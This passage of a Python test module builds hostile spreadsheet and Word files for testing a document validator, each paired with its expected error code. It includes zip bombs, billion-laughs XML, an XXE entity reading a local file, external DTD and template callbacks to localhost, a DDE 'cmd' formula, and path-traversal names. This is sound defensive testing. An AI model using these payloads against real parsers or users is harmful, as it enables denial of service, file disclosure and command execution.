"""Files made to hurt, each by its name and the code that is expected of it.

They are made here and not kept, so that no archive of ours carries a bomb. Workbooks start from a
sound one of one institution, templates from ours, so that all but the fault is in order. One that
takes a line stands in the tables at the end; the others are functions that are named there.
"""

from __future__ import annotations

import io
import re
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, replace
from datetime import date
from functools import cache
from itertools import chain
from pathlib import Path

import xlsxwriter

from generator.law.choices import Count
from generator.law.edition import Edition
from generator.submission.contract import BodyField, OrganisationField, SheetName
from generator.submission.sheets import CellContent, Sheet, Workbook
from generator.word.compose.template import compose
from tests.helpers import kit

FINE = "fine"
"""What is expected of a file that is odd but can be read: no error at all."""

BODY, ORGANISATIONS, INSPECTIONS = (f"xl/worksheets/sheet{number}.xml" for number in (1, 2, 3))
TEXTS, STYLES, BOOK = "xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml"
BOOK_RELATIONS = "xl/_rels/workbook.xml.rels"
DOCUMENT = "word/document.xml"
TYPES, RELATIONS = "[Content_Types].xml", "_rels/.rels"
SECRET = "құпия-файлдың-мазмұны"
SECRET_FILE = Path(tempfile.gettempdir()) / "bagalau-hostile-secret"
"""A file that some of them try to read."""

PORT = 9
"""Where some of them try to connect to; a test listens there."""

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_MIB = 1024 * 1024
_SUM_OF_1000 = zlib.crc32(b" " * 1000)
_WEB_PAGE = b"<html><body><table><tr><td>1</td></tr></table></body></html>"
_ENCRYPTED = _OLE + b"\0" * 1000 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 1000
_TRANSITIONAL = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_SECRET_ENTITY = f'<!ENTITY xxe SYSTEM "{SECRET_FILE.as_uri()}">'
_RULE = '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"/>'
_LINK = '<hyperlink ref="A1:XFD1048576" location="\\\\host\\share!A1"/>'
_ELSEWHERE = "'\\\\host\\share\\[book.xlsx]Sheet'!A1"
_COMMAND = "=cmd|'/C calc'!A0 {{ орган.атауы }} <w:p/> & ]]>"
_LAUGHS = "".join(
    f'<!ENTITY lol{n} "{"&lol" + str(n - 1) + ";" if n else "ha"}'
    f'{("&lol" + str(n - 1) + ";") * 9 if n else ""}">'
    for n in range(10)
)

_F = OrganisationField

Parts = dict[str, bytes]


@dataclass(frozen=True)
class Hostile:
    """A file: its name, the code that is expected of it (or :data:`FINE`), and how it is made."""

    name: str
    expected: str
    make: Callable[[], bytes]


WORKBOOKS: dict[str, Hostile] = {}
TEMPLATES: dict[str, Hostile] = {}


Maker = Callable[[], bytes]


def workbook(expected: str) -> Callable[[Maker], Maker]:
    """A hostile workbook; ``expected`` is the code of an error, or :data:`FINE`."""
    return _registered(WORKBOOKS, expected)


def template(expected: str) -> Callable[[Maker], Maker]:
    """A hostile template; likewise."""
    return _registered(TEMPLATES, expected)


def _registered(register: dict[str, Hostile], expected: str) -> Callable[[Maker], Maker]:
    def add(make: Maker) -> Maker:
        _register(register, {expected: {make.__name__: make}})
        return make

    return add


def _register(register: dict[str, Hostile], table: Mapping[str, Mapping[str, Maker]]) -> None:
    """Takes in files by the code that is expected of them and by name."""
    for expected, makers in table.items():
        register |= {name: Hostile(name, expected, make) for name, make in makers.items()}


# --- what they are made of


@cache
def sound_workbook() -> bytes:
    """A workbook with nothing wrong in it."""
    return written(kit.workbook([kit.organisation("МК", 1)]))


def written(book: Workbook) -> bytes:
    """A workbook as Excel writes it: shared texts, no inline ones."""
    data = io.BytesIO()
    options = {"in_memory": True, "strings_to_formulas": False}
    with xlsxwriter.Workbook(data, options) as out:
        dates = out.add_format({"num_format": "dd.mm.yyyy"})
        for source in book.sheets:
            target = out.add_worksheet(source.name)
            for row in source.rows:
                for column, cell in row.cells.items():
                    style = dates if isinstance(cell.content, date) else None
                    target.write(row.number - 1, column - 1, cell.content, style)
    return data.getvalue()


@cache
def sound_template() -> bytes:
    """Our own template."""
    edition: Edition = kit.EDITIONS[0]
    return compose(edition)


def unzipped(data: bytes) -> Parts:
    """The parts of a file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(parts: Iterable[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of the parts; names may repeat."""
    return b"".join(_directory([_Member(name, content, method) for name, content in parts]))


@dataclass
class _Member:
    """A member of a zip, every field of which may lie."""

    name: str
    content: bytes
    method: int = zipfile.ZIP_DEFLATED
    size: int | None = None
    crc: int | None = None
    flags: int = 0x800
    is_raw: bool = False

    def packed(self) -> bytes:
        if self.is_raw or self.method not in (zipfile.ZIP_DEFLATED, zipfile.ZIP_LZMA):
            return self.content
        if self.method == zipfile.ZIP_LZMA:
            made = io.BytesIO()
            with zipfile.ZipFile(made, "w", zipfile.ZIP_LZMA) as archive:
                archive.writestr("x", self.content)
                packed = archive.infolist()[0].compress_size
            return made.getvalue()[31 : 31 + packed]
        packer = zlib.compressobj(6, zlib.DEFLATED, -15)
        return packer.compress(self.content) + packer.flush()


def _directory(members: list[_Member]) -> list[bytes]:
    """The pieces of a zip, written by hand: zipfile would correct the lies."""
    pieces: list[bytes] = []
    directory = b""
    position = 0
    for member in members:
        name, packed = member.name.encode(), member.packed()
        size = len(member.content) if member.size is None else member.size
        crc = zlib.crc32(member.content) if member.crc is None else member.crc
        fields = struct.pack(
            "<HHHHHLLLHH", 20, member.flags, member.method, 0, 33, crc, len(packed), size,
            len(name), 0,
        )  # fmt: skip
        directory += b"PK\x01\x02" + struct.pack("<H", 20) + fields
        directory += struct.pack("<HHHLL", 0, 0, 0, 0, position) + name
        pieces += [b"PK\x03\x04", fields, name, packed]
        position += 30 + len(name) + len(packed)
    count = min(len(members), 0xFFFF)
    end = struct.pack("<HHHHLLH", 0, 0, count, count, len(directory), position, 0)
    return [*pieces, directory, b"PK\x05\x06", end]


def _forged(parts: Mapping[str, bytes], *members: _Member) -> bytes:
    """A zip of the parts in which some are replaced by members that lie."""
    names = {member.name for member in members}
    kept = [_Member(name, content) for name, content in parts.items() if name not in names]
    return b"".join(_directory([*kept, *members]))


def _spaces(size: int) -> bytes:
    """Spaces, deflated, without ever having them all in memory: blocks end on whole bytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b" " * _MIB) + packer.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    return block * (size // _MIB) + last.flush()


def _bomb(name: str, size: int, told: int | None = None, crc: int = 0) -> _Member:
    """A part of so many spaces that tells another size."""
    declared = size if told is None else told
    return _Member(name, _spaces(size), size=declared, crc=crc, is_raw=True)


def _bombed(
    part: str, megabytes: int, told: int | None = None, crc: int = 0, data: bytes | None = None
) -> bytes:
    """A file with a bomb for a part."""
    bomb = _bomb(part, megabytes * _MIB, told, crc)
    return _forged(unzipped(data or sound_workbook()), bomb)


def _lying(part: str, data: bytes | None = None, **fields: int) -> bytes:
    """A file with a part that is not what these fields of the zip say."""
    parts = unzipped(data or sound_workbook())
    return _forged(parts, replace(_Member(part, parts[part]), **fields))  # type: ignore[arg-type]


def _beside(*members: tuple[str, bytes], data: bytes | None = None) -> bytes:
    """A file with more members, whose names may repeat."""
    return zipped([*unzipped(data or sound_workbook()).items(), *members])


def _put(changes: Mapping[str, bytes], data: bytes | None = None) -> bytes:
    """A file with some parts changed."""
    return zipped((unzipped(data or sound_workbook()) | dict(changes)).items())


def _without(data: bytes, part: str) -> bytes:
    """A file without one of its parts."""
    return zipped((name, content) for name, content in unzipped(data).items() if name != part)


def _cut(data: bytes, share: float) -> bytes:
    """A download that broke off."""
    return data[: int(len(data) * share)]


def _changed(part: str, old: str, new: str, data: bytes | None = None) -> bytes:
    """A file with other words in one part."""
    data = data or sound_workbook()
    return _put({part: _replaced(unzipped(data)[part], old, new)}, data)


def _replaced(content: bytes, old: str, new: str) -> bytes:
    text = content.decode()
    assert old in text, old
    return text.replace(old, new, 1).encode()


def _substituted(part: str, pattern: str, new: str, data: bytes | None = None) -> bytes:
    """A file with other words where a pattern is found in one part."""
    data = data or sound_workbook()
    changed, count = re.subn(pattern, lambda _: new, unzipped(data)[part].decode(), count=1)
    assert count == 1, pattern
    return _put({part: changed.encode()}, data)


def _after_cells(words: str, data: bytes | None = None) -> bytes:
    """A workbook with something after the cells of its second sheet."""
    return _changed(ORGANISATIONS, "</sheetData>", f"</sheetData>{words}", data)


def _merged(*ranges: str, data: bytes | None = None) -> bytes:
    """A workbook with merged ranges in its second sheet."""
    cells = "".join(f'<mergeCell ref="{ref}"/>' for ref in ranges)
    return _after_cells(f"<mergeCells>{cells}</mergeCells>", data)


def _more_rows(rows: str) -> bytes:
    """The sound workbook with more rows in «Ұйымдар»."""
    return _changed(ORGANISATIONS, "</sheetData>", f"{rows}</sheetData>")


def _columns(columns: str, data: bytes | None = None) -> bytes:
    """A workbook with columns declared in its second sheet."""
    return _changed(ORGANISATIONS, "<sheetData>", f"<cols>{columns}</cols><sheetData>", data)


def _more_tabs(names: list[str], data: bytes | None = None) -> bytes:
    """A workbook with more tabs, all of which show the sheet of organisations."""
    tabs = "".join(
        f'<sheet name="{n}" sheetId="9" q:id="rId2" xmlns:q="{_OFFICE}"/>' for n in names
    )
    return _changed(BOOK, "</sheets>", f"{tabs}</sheets>", data)


def _cell(place: OrganisationField | str, cell: str, data: bytes | None = None) -> bytes:
    """A workbook with other XML for a cell of its second sheet; ``@`` is its address."""
    address = place if isinstance(place, str) else kit.where(place, 2)
    wanted = rf'(?s)<c r="{address}"[^>]*?(/>|>.*?</c>)'
    return _substituted(ORGANISATIONS, wanted, cell.replace("@", address), data)


def _of_body(body: Mapping[BodyField, CellContent]) -> bytes:
    """A sound workbook of a body that says this of itself."""
    return written(kit.workbook([kit.organisation("ММ", 1)], body=body))


def _shared_by_all(text: str) -> bytes:
    """A text that twenty thousand cells share."""
    number = unzipped(sound_workbook())[TEXTS].count(b"<si>")
    rows = _more_rows(f'<row><c t="s"><v>{number}</v></c></row>' * 20_000)
    return _changed(TEXTS, "</sst>", f"<si><t>{text}</t></si></sst>", rows)


def _with_doctype(part: str, inside: str, used: str = "", data: bytes | None = None) -> bytes:
    """A file with a document type in a part, and an entity used in it."""
    data = data or sound_workbook()
    return _put({part: _typed(unzipped(data)[part], inside, used)}, data)


def _typed(content: bytes, inside: str, used: str = "") -> bytes:
    text = content.decode()
    start = text.index("?>") + 2 if text.startswith("<?xml") else 0
    typed = f"{text[:start]}<!DOCTYPE x [{inside}]>{text[start:]}"
    return _replaced(typed.encode(), "<t>", f"<t>{used}") if used else typed.encode()


def _in_utf_16(part: str, data: bytes) -> bytes:
    """A file with a part in another encoding."""
    text = unzipped(data)[part].decode()
    body = text[text.index("?>") + 2 :] if text.startswith("<?xml") else text
    return _put({part: f'<?xml version="1.0" encoding="UTF-16"?>{body}'.encode("utf-16")}, data)


# --- workbooks


@workbook("file-too-large")
def many_formats_of_brackets() -> bytes:
    """Three hundred thousand number formats, each of which takes long to understand."""
    codes = "".join(
        f'<numFmt numFmtId="{200 + number}" formatCode="{"[" * 200}{number}"/>'
        for number in range(50_000)
    )
    return _changed(STYLES, "</numFmts>", f"{codes}</numFmts>")


@workbook(FINE)
def one_slow_format_for_all() -> bytes:
    """A hundred thousand cell formats that share one code of brackets."""
    code = f'<numFmt numFmtId="200" formatCode="{"[" * 255}"/>'
    cells = '<xf numFmtId="200"/>' * 100_000
    slow = _changed(STYLES, "</numFmts>", f"{code}</numFmts>")
    return _changed(STYLES, "</cellXfs>", f"{cells}</cellXfs>", slow)


@workbook("file-damaged")
def laughs_in_utf_7() -> bytes:
    """A milliard laughs in UTF-7, in which no bracket is a bracket."""
    typed = _typed(unzipped(sound_workbook())[BOOK], _LAUGHS).decode()
    body = typed[typed.index("<!DOCTYPE") :].encode("utf-7")
    return _put({BOOK: b'<?xml version="1.0" encoding="UTF-7"?>' + body})


@workbook("file-ambiguous")
def two_books() -> bytes:
    """A second list of sheets, which the content types name, with a bomb behind it."""
    parts = unzipped(sound_workbook())
    types = _replaced(parts[TYPES], "/xl/workbook.xml", "/evil/workbook.xml")
    evil = _Member("evil/workbook.xml", parts[BOOK])
    relations = _Member("evil/_rels/workbook.xml.rels", parts[BOOK_RELATIONS])
    return _forged(parts | {TYPES: types}, evil, relations, _bomb("evil/sheet.xml", 100 * _MIB))


_FOUR = kit.counts(
    institutions={Count.AT_START: 4, Count.AT_END: 4},
    enterprises={Count.AT_START: 3, Count.AT_END: 4, Count.PAYERS: 2},
)
_LONGEST_LINE = (
    "Төлемге қабілетсіз мемлекеттік кәсіпорындар мен мемлекет бақылауындағы АҚ (ЖШС) саны"
)
_Lines = list[list[CellContent]]


def _lines() -> _Lines:
    return kit.report_lines(_FOUR)


def _report(*lines: _Lines) -> bytes:
    """A workbook with a report of these lines, one group below the other."""
    table = kit.sheet(SheetName.REPORT.value, [*chain(*lines)])
    return written(kit.replaced(kit.report_workbook(_FOUR), table))


@cache
def _sound_report() -> bytes:
    return _report(_lines())


def _report_cell(where: str, cell: str) -> bytes:
    return _cell(where, cell, _sound_report())


@workbook("report-row-missing")
def report_of_lines_almost_right() -> bytes:
    """Fifteen thousand lines, each almost one of the report, and none of its own."""
    words = [str(line[1]) for line in _lines()[2:]]
    return _report(_lines()[:2], [[None, f"{words[n % len(words)]}қ{n}"] for n in range(15_000)])


@workbook("header-missing")
def report_of_heads_almost_right() -> bytes:
    """Thirty thousand texts, each almost the head of a column."""
    heads = [str(head) for head in _lines()[1][4:]]
    return _report([[f"{heads[n % 2]}р"] for n in range(30_000)])


@workbook("column-missing")
def report_of_a_row_of_heads_almost_right() -> bytes:
    """A row of sixteen thousand heads, most of them almost right."""
    lines = _lines()
    lines[1] += [f"мемлекеттік мекемелер{n}" for n in range(16_000)]
    lines[1][6] = None
    return _report(lines)


@workbook(FINE)
def report_far_away() -> bytes:
    """A report in the last rows and columns of the sheet."""
    away: _Lines = [[None] * 16_000 + line for line in _lines()]
    rows = kit.sheet("", away).rows
    moved = tuple(replace(row, number=row.number + 1_000_000) for row in rows)
    table = Sheet(SheetName.REPORT.value, hidden=False, rows=moved)
    return written(kit.replaced(kit.report_workbook(_FOUR), table))


@workbook(FINE)
def report_all_hidden() -> bytes:
    """A report whose rows and columns are all hidden."""
    rows = unzipped(_sound_report())[ORGANISATIONS].replace(b"<row ", b'<row hidden="1" ')
    hidden = _put({ORGANISATIONS: rows}, _sound_report())
    return _columns('<col min="1" max="16384" hidden="1"/>', hidden)


@workbook("label-unclear")
def labels_almost_right() -> bytes:
    """Thirty thousand texts on «Орган», each almost one of its labels."""
    book = kit.report_workbook(_FOUR)
    lines = kit.lines(kit.sheet_of(book, SheetName.BODY))
    lines += [[f"Ескерілмейтін ұйымдар санды: {n}"] for n in range(30_000)]
    return written(kit.replaced(book, kit.sheet(SheetName.BODY.value, lines)))


@workbook("column-missing column-twice unit-unknown required")
def columns_almost_right() -> bytes:
    """Sixteen thousand headers on «Ұйымдар», most of them almost right, half of them of money."""
    book = kit.workbook([kit.organisation("МК", 1)])
    lines = kit.lines(kit.sheet_of(book, SheetName.ORGANISATIONS))
    headers = (_F.RESULT.value.text, _F.PLAN.value.text)
    lines[0] = [None if cell in headers else cell for cell in lines[0]]
    lines[0] += [f"{headers[n % 2]}{n}" for n in range(16_000)]
    return written(kit.replaced(book, kit.sheet(SheetName.ORGANISATIONS.value, lines)))


@workbook("bin-length bin-not-digits value-unknown number-malformed")
def rows_of_nonsense() -> bytes:
    """Four thousand organisations of words that no column takes."""
    book = kit.workbook([kit.organisation("МК", 1)])
    lines = kit.lines(kit.sheet_of(book, SheetName.ORGANISATIONS))
    words = ("abc", "31.02.2023", "жоқ?", "12,3.4", "1 23", "қоғамдық қор")
    lines += [[f"{words[(n + c) % 6]}{7 * n % 1_000}" for c in range(11)] for n in range(4_000)]
    return written(kit.replaced(book, kit.sheet(SheetName.ORGANISATIONS.value, lines)))


# --- templates


def _document(words: str) -> bytes:
    """Our template with these words before its first."""
    return with_markup(_paragraph(words))


def with_markup(xml: str) -> bytes:
    """Our template with this XML before its first paragraph."""
    return _template_changed(DOCUMENT, "<w:body>", f"<w:body>{xml}")


def _away() -> str:
    """Another computer: of the port that listens when the file is made."""
    return f"http://127.0.0.1:{PORT}"


def _external(name: str) -> str:
    """A target on another computer."""
    return f'Target="{_away()}/{name}" TargetMode="External"'


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _table_of(runs: str, properties: str = "") -> str:
    return f"<w:tbl><w:tr><w:tc>{properties}<w:p>{runs}</w:p></w:tc></w:tr></w:tbl>"


def _put_in_template(changes: Mapping[str, bytes]) -> bytes:
    return _put(changes, sound_template())


def _template_changed(part: str, old: str, new: str) -> bytes:
    return _changed(part, old, new, sound_template())


@template(FINE)
def settings_elsewhere() -> bytes:
    """A template that is attached to another on a strange computer, as attackers do it."""
    relation = (
        f'<Relationship Id="rId99" Type="{_OFFICE}/attachedTemplate" '
        f'Target="http://127.0.0.1:{PORT}/x.dotm" TargetMode="External"/>'
    )
    links = "word/_rels/document.xml.rels"
    return _template_changed(links, "</Relationships>", f"{relation}</Relationships>")


@template("template-damaged")
def chain_of_parts() -> bytes:
    """Two thousand parts, each of which points to the next."""
    kind = f"{_OFFICE}/customXml"
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    chain = {
        f"word/_rels/p{n}.xml.rels": (
            f'<Relationships xmlns="{space}">'
            f'<Relationship Id="r" Type="{kind}" Target="p{n + 1}.xml"/></Relationships>'
        ).encode()
        for n in range(2_000)
    }
    chain |= {f"word/p{n}.xml": b"<a/>" for n in range(2_001)}
    first = f'<Relationship Id="rId98" Type="{kind}" Target="p0.xml"/></Relationships>'
    links = "word/_rels/document.xml.rels"
    old = unzipped(sound_template())[links]
    return _put_in_template(chain | {links: _replaced(old, "</Relationships>", first)})


@template("template-other-format")
def macros() -> bytes:
    """A document with macros."""
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    plain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return _template_changed(TYPES, plain, kind)


@template("template-damaged")
def properties_of_another_kind() -> bytes:
    """Properties whose content type is that of a picture."""
    kind = "application/vnd.openxmlformats-package.core-properties+xml"
    return _template_changed(TYPES, kind, "image/png")


_WORKBOOKS: Mapping[str, Mapping[str, Maker]] = {
    "file-too-large": {
        "bomb_in_sheet": lambda: _bombed(ORGANISATIONS, 2048),
        "bomb_in_texts": lambda: _bombed(TEXTS, 200),
        "bomb_in_styles": lambda: _bombed(STYLES, 100),
        "bomb_in_book": lambda: _bombed(BOOK, 100),
        "declared_four_gigabytes": lambda: _lying(ORGANISATIONS, size=2**32 - 2),
        "ten_thousand_members": lambda: _beside(*((f"xl/media/{n}", b"") for n in range(10_000))),
        "three_million_empty_rows": lambda: _more_rows("<row/>" * 3_000_000),
        "three_million_texts": lambda: _changed(TEXTS, "</sst>", "<si/>" * 3_000_000 + "</sst>"),
        "a_row_of_cells_without_end": lambda: _more_rows(
            f"<row>{'<c><v>1</v></c>' * 300_000}</row>"
        ),
        "cells_over_many_sheets": lambda: _more_tabs(
            ["Ұйымдар"] * 100, _more_rows(f"<row>{'<c><v>1</v></c>' * 5_000}</row>")
        ),
        "five_thousand_tabs": lambda: _more_tabs([f"hHhHhHhH{number}" for number in range(5_000)]),
        "merge_over_the_sheet": lambda: _merged("A1:XFD1048576"),
        "merge_in_disguise": lambda: _merged("A1&#58;XFD1048576"),
        "merge_in_another_encoding": lambda: _in_utf_16(ORGANISATIONS, _merged("A1:XFD1048576")),
        "fifty_thousand_merges": lambda: _merged(*(f"A{n}:B{n}" for n in range(10, 50_010))),
        "hidden_columns_again_and_again": lambda: _columns(
            '<col min="1" max="16384" width="9" hidden="1"/>' * 200_000
        ),
        "one_long_text_in_all_cells": lambda: _shared_by_all("қ" * 1_200_000),
        "one_full_text_in_all_cells": lambda: _shared_by_all("қ" * 32_767),
    },
    FINE: {
        # nobody opens it
        "bomb_in_picture": lambda: _bombed("xl/media/image1.png", 240),
        "zip_in_a_zip": lambda: _put({"xl/embeddings/book.xlsx": _bombed(ORGANISATIONS, 2048)}),
        # as workbooks grow that are copied for years
        "many_formats": lambda: _changed(STYLES, "</cellXfs>", "<xf/>" * 300_000 + "</cellXfs>"),
        "many_conditional_formats": lambda: _after_cells(
            f"{_RULE}</conditionalFormatting>" * 100_000
        ),
        "many_attributes": lambda: _after_cells(
            f"<pageMargins {' '.join(f'a{n}={chr(34)}1{chr(34)}' for n in range(300_000))}/>"
        ),
        "as_many_cells_as_are_read": lambda: _more_rows("<row><c><v>1</v></c></row>" * 90_000),
        "as_much_text_as_is_read": lambda: _changed(
            TEXTS, "</sst>", f"<si><t>{'қ' * 32_767}</t></si>" * 600 + "</sst>"
        ),
        "far_cell": lambda: _more_rows('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        "row_beyond_the_sheet": lambda: _more_rows(
            '<row r="99999999"><c r="AZ99999999"><v>1</v></c></row>'
        ),
        "link_over_the_sheet": lambda: _after_cells(f"<hyperlinks>{_LINK}</hyperlinks>"),
        "hidden_columns_without_end": lambda: _columns(
            '<col min="1" max="1000000000" width="9" hidden="1"/>'
        ),
        "lying_dimension": lambda: _substituted(
            ORGANISATIONS, '<dimension ref="[^"]*"', '<dimension ref="A1"'
        ),
        "nested_deeply": lambda: _after_cells("<a>" * 100_000 + "</a>" * 100_000),
        # the format allows it
        "sheet_in_utf_16": lambda: _in_utf_16(ORGANISATIONS, sound_workbook()),
        # likewise
        "wrong_sum_in_theme": lambda: _forged(
            unzipped(sound_workbook()), _Member("xl/theme/theme1.xml", b"<a/>", crc=7)
        ),
        "members_outside": lambda: _put(
            {"../../evil.txt": b"x", "/tmp/evil.txt": b"x", "C:\\evil.txt": b"x"}
        ),
        # as some programs write them
        "members_with_backslashes": lambda: zipped(
            (n.replace("/", "\\"), c) for n, c in unzipped(sound_workbook()).items()
        ),
        "name_of_full_length": lambda: _cell(
            _F.NAME, f'<c r="@" t="inlineStr"><is><t>{"Қ" * 32_767}</t></is></c>'
        ),
        # half a character, which no document can hold
        "lone_surrogate": lambda: _cell(
            _F.NAME, '<c r="@" t="str"><v>Қайнар _xD83D_ _xDE00_</v></c>'
        ),
        "control_characters": lambda: _cell(
            _F.NAME, '<c r="@" t="str"><v>Қай_x0000_нар_x0007__x001B_[2J</v></c>'
        ),
        "formula_as_a_name": lambda: _cell(
            _F.NAME, '<c r="@" t="str"><v>=cmd|\'/C calc\'!A0</v></c>'
        ),
        "formulas_into_another_book": lambda: _cell(
            _F.RESULT, f'<c r="@"><f>{_ELSEWHERE}</f><v>5</v></c>'
        ),
        "format_beyond_the_last": lambda: _cell(_F.RESULT, '<c r="@" s="2147483647"><v>5</v></c>'),
        "format_of_no_number": lambda: _cell(_F.RESULT, '<c r="@" s=""><v>5</v></c>'),
        "tab_with_a_path": lambda: _more_tabs(["_../../etc/[passwd]:*?"]),
        "body_that_leads_out": lambda: _of_body({BodyField.NAME: "../../etc/passwd"}),
        "body_that_is_a_command": lambda: _of_body({BodyField.NAME: _COMMAND}),
        "report_above_many_texts": lambda: _report(_lines(), [["жол", "мәтін"]] * 30_000),
        "report_of_long_cells": lambda: _report(
            [["қ" * 32_767]] * 60, _lines(), [[None, "Қ" * 32_767]] * 60
        ),
        # each h may be two letters
        "report_of_latin_h": lambda: _report(_lines(), [[None, f"{'h' * 8}{'қ' * 320}"]] * 9_000),
        "report_of_composed_letters": lambda: _report(_lines(), [[None, "и\u0306" * 400]] * 4_500),
    },
    "file-damaged": {
        "lying_size": lambda: _bombed(ORGANISATIONS, 2048, told=1000),
        "lying_size_with_its_sum": lambda: _bombed(
            ORGANISATIONS, 2048, told=1000, crc=_SUM_OF_1000
        ),
        "lying_list_of_sheets": lambda: _bombed(RELATIONS, 2048, told=10),
        "declared_less": lambda: _lying(ORGANISATIONS, size=500),
        # a way that Office does not know and no one can bound
        "packed_by_lzma": lambda: _lying(ORGANISATIONS, method=zipfile.ZIP_LZMA),
        "packed_by_nothing_known": lambda: _lying(ORGANISATIONS, method=99),
        "member_with_password": lambda: _lying(ORGANISATIONS, flags=0x801),
        "merges_that_never_close": lambda: _after_cells("<mergeCell " * 500_000),
        "merge_of_nothing": lambda: _merged("A0:нет"),
        "row_of_a_negative_number": lambda: _more_rows('<row r="-5"><c><v>1</v></c></row>'),
        "row_of_an_endless_number": lambda: _more_rows(
            f'<row r="{"9" * 5_000}"><c><v>1</v></c></row>'
        ),
        "cell_of_no_column": lambda: _more_rows('<row><c r="QWERTY7"><v>1</v></c></row>'),
        "nested_without_end": lambda: _after_cells("<a>" * 200_000),
        "laughs_in_texts": lambda: _with_doctype(TEXTS, _LAUGHS, "&lol9;"),
        "laughs_in_sheet": lambda: _with_doctype(ORGANISATIONS, _LAUGHS),
        "laughs_in_book": lambda: _with_doctype(
            BOOK, _LAUGHS, data=_changed(BOOK, 'name="Орган"', 'name="&lol9;"')
        ),
        "laughs_in_styles": lambda: _with_doctype(STYLES, _LAUGHS),
        "laughs_in_relations": lambda: _with_doctype(BOOK_RELATIONS, _LAUGHS),
        "another_file_in_texts": lambda: _with_doctype(TEXTS, _SECRET_ENTITY, "&xxe;"),
        "another_computer_in_texts": lambda: _with_doctype(
            TEXTS, f'<!ENTITY % all SYSTEM "{_away()}/x.dtd"> %all;'
        ),
        "laughs_in_utf_16": lambda: _in_utf_16(TEXTS, _with_doctype(TEXTS, _LAUGHS, "&lol9;")),
        "sheet_in_ebcdic": lambda: _put(
            {ORGANISATIONS: '<?xml version="1.0" encoding="cp037"?><worksheet/>'.encode("cp037")}
        ),
        "entity_that_nobody_defined": lambda: _changed(TEXTS, "<t>", "<t>&nothing;"),
        "four_bytes": lambda: b"PK\x03\x04",
        "truncated": lambda: _cut(sound_workbook(), 2 / 3),
        "wrong_sum_in_sheet": lambda: _lying(ORGANISATIONS, crc=7),
        # what each part is
        "laughs_in_content_types": lambda: _with_doctype(TYPES, _LAUGHS),
        "no_book": lambda: _without(sound_workbook(), BOOK),
        "no_relations": lambda: _without(sound_workbook(), RELATIONS),
        "no_texts": lambda: _without(sound_workbook(), TEXTS),
        "sheet_is_the_book": lambda: _with_doctype(
            BOOK, _LAUGHS, data=_changed(BOOK_RELATIONS, "worksheets/sheet2.xml", "workbook.xml")
        ),
        # XML forbids it
        "bare_control_character": lambda: _cell(_F.NAME, '<c r="@" t="str"><v>Қай\x07нар</v></c>'),
        "text_before_the_first": lambda: _cell(_F.NAME, '<c r="@" t="s"><v>-1</v></c>'),
        "text_beyond_the_last": lambda: _cell(_F.NAME, '<c r="@" t="s"><v>99999999</v></c>'),
    },
    "file-ambiguous": {
        # programs differ in which they take
        "sheet_twice_in_the_zip": lambda: _beside((ORGANISATIONS, b"<worksheet/>")),
        "sheet_twice_but_for_case": lambda: _beside((ORGANISATIONS.upper(), b"<worksheet/>")),
        "sheet_twice_but_for_slashes": lambda: _beside(
            (ORGANISATIONS.replace("/", "\\"), b"<worksheet/>")
        ),
        # its list of sheets is the list of what belongs to what
        "begins_with_itself": lambda: _changed(RELATIONS, "xl/workbook.xml", "_rels/.rels"),
    },
    "bin-twice": {"tabs_of_one_name": lambda: _more_tabs(["Ұйымдар"] * 200)},
    "file-encrypted": {"encrypted": lambda: _ENCRYPTED},
    "file-old-format": {"old_format": lambda: _OLE + b"\0" * 4000},
    "file-other-format": {
        "web_page": lambda: _WEB_PAGE,
        "open_document": lambda: zipped(
            [("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")]
        ),
        "a_document": sound_template,
    },
    "file-empty": {"empty_file": lambda: b""},
    "file-strict": {
        "strict": lambda: _changed(
            BOOK, _TRANSITIONAL, "http://purl.oclc.org/ooxml/spreadsheetml/main"
        ),
    },
    "sheet-missing": {
        "no_sheets": lambda: _substituted(BOOK, "<sheets>.*</sheets>", "<sheets/>"),
        "no_sheet_part": lambda: _without(sound_workbook(), ORGANISATIONS),
        "sheet_elsewhere": lambda: _changed(
            BOOK_RELATIONS, 'Target="worksheets/sheet2.xml"', _external("sheet.xml")
        ),
        "sheet_in_another_folder": lambda: _changed(
            BOOK_RELATIONS, "worksheets/sheet2.xml", "../../../../etc/passwd"
        ),
    },
    "tab-unread": {
        "tab_that_speaks_to_the_terminal": lambda: _changed(
            BOOK, 'name="Ұйымдар"', 'name="Ұйымдар&#x9b;2J"'
        ),
    },
    "number-malformed": {
        "not_a_number": lambda: _cell(_F.RESULT, '<c r="@"><v>NaN</v></c>'),
        "infinity": lambda: _cell(_F.RESULT, '<c r="@"><v>INF</v></c>'),
        "number_out_of_range": lambda: _cell(_F.RESULT, '<c r="@"><v>1e400</v></c>'),
        # no arithmetic of money is made for it
        "greatest_number": lambda: _cell(
            _F.OWN_FUNDS, '<c r="@"><v>1.7976931348623157e308</v></c>'
        ),
        # Python would take it
        "number_in_words_of_python": lambda: _cell(_F.RESULT, '<c r="@"><v>1_000</v></c>'),
        "number_of_full_length": lambda: _cell(
            _F.RESULT, f'<c r="@" t="str"><v>{"қ" * 32_767}</v></c>'
        ),
        "report_of_no_number": lambda: _report_cell("E4", '<c r="@"><v>NaN</v></c>'),
        "report_of_infinity": lambda: _report_cell("E4", '<c r="@"><v>-INF</v></c>'),
        "report_of_the_greatest_number": lambda: _report_cell("E4", '<c r="@"><v>1e308</v></c>'),
        "report_of_truth": lambda: _report_cell("E22", '<c r="@" t="b"><v>1</v></c>'),
